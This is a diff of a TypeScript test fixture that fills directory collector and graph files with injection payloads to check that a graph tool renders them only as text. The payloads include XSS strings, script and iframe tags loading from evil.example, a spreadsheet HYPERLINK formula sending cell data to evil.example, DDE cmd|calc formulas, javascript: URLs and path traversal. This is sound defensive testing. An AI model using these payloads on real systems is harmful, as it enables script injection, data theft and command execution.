@@ -1,25 +1,39 @@
 import type { NamedContent } from './reference-graph.js';
 
-/** Texts that are attacks if something takes them for more than text. `document.title` shows whether one has run. */
-export const attacks = {
-  markup: '<img src=x onerror="document.title=\'OWNED\'">',
-  script: '</title></script><script>document.title="OWNED"</script>',
-  svg: '"/></text><svg onload=document.title="OWNED"><foreignObject><iframe srcdoc="<script>top.document.title=1</script>">',
-  attribute: '" onmouseover="document.title=\'OWNED\'" autofocus onfocus="document.title=\'OWNED\'',
+const program = 'document.title="OWNED"';
+
+/** The program as numeric references of HTML, which have no letters: names of directory objects are stored in upper case. */
+const code = Array.from(program, (it) => `&#${it.charCodeAt(0)};`).join('');
+
+/** The same as escapes of a URL. */
+const escaped = Array.from(program, (it) => `%${it.charCodeAt(0).toString(16)}`).join('');
+
+/** Texts that are attacks if something takes them for more than text. The title of the page shows whether one has run. */
+export const attacks = uppercase({
+  markup: `<img src=x onerror="${code}">`,
+  script: '</title></script><script src=//evil.example/script></script>',
+  svg: `"/></text><svg onload="${code}"><foreignObject><iframe src=//evil.example/frame>`,
+  attribute: `" onmouseover="${code}" autofocus onfocus="${code}`,
   entity: '&lt;b&gt;&#60;script&#62;&quot;&amp;amp;',
   formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
   minus: "-2+3+cmd|' /C calc'!A0",
   at: '@SUM(1+1)*cmd|" /C calc"!A0',
   csv: 'a","b"\r\n=1+1;\t"',
-  markdown: '[a](javascript:document.title=1) ![i](https://evil.example/i.png) **b** | c | `d` <u>e</u>',
-  address: 'javascript:document.title="OWNED"',
+  markdown: `[a](javascript:${escaped}) ![i](https://evil.example/i.png) **b** | c | \`d\` <u>e</u>`,
+  address: `javascript:${escaped}`,
   traversal: '../../../api/v2/logout?x=1&kind=User#/ui/o/1',
   percent: '%3Cscript%3E%00%2e%2e%2f%zz',
-  template: '${document.title=1}{{constructor.constructor("document.title=1")()}}',
-  prototype: '__proto__',
+  template: '${1+1}{{1+1}}<%= 1+1 %>',
   direction: 'gpj.\u202Eexe.\u2066alice\u200B\uFEFF',
   length: 'W'.repeat(2000),
-} as const;
+});
+
+function uppercase<T extends Readonly<Record<string, string>>>(texts: T): Record<keyof T, string> {
+  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, text.toUpperCase()])) as Record<
+    keyof T,
+    string
+  >;
+}
 
 export const attackNames: readonly string[] = Object.values(attacks);
 
@@ -34,7 +48,7 @@ export const attackUsers: readonly string[] = attackNames.map((_, place) => idOf
 export const attackId = `x"><IMG SRC=X ONERROR=ALERT(1)>/../%2F?#&'`.toUpperCase();
 
 /**
- * Collector files of a domain, a tenant and an OpenGraph whose names, descriptions, kinds and ids are {@link attacks}. Users are members of
+ * Collector files of a domain, a tenant and an OpenGraph whose names, descriptions, kinds of nodes and ids are {@link attacks}. Users are members of
  * chains of groups, have sessions on computers and administer them.
  */
 export function attackFiles(): readonly NamedContent[] {
@@ -120,8 +134,8 @@ function openGraph(): Json {
       kinds: [attacks.markup, attacks.svg],
       properties: { name: attacks.script, [attacks.attribute]: attacks.entity },
     },
-    { id: 'plain', kinds: [attacks.formula], properties: { name: attacks.prototype } },
+    { id: 'plain', kinds: [attacks.formula], properties: { name: '__proto__' } },
   ];
-  const edge = { kind: attacks.attribute, start: { value: attackId }, end: { value: 'plain' } };
+  const edge = { kind: 'Attacks', start: { value: attackId }, end: { value: 'plain' } };
   return { name: 'graph.json', content: { graph: { nodes, edges: [edge] } } };
 }
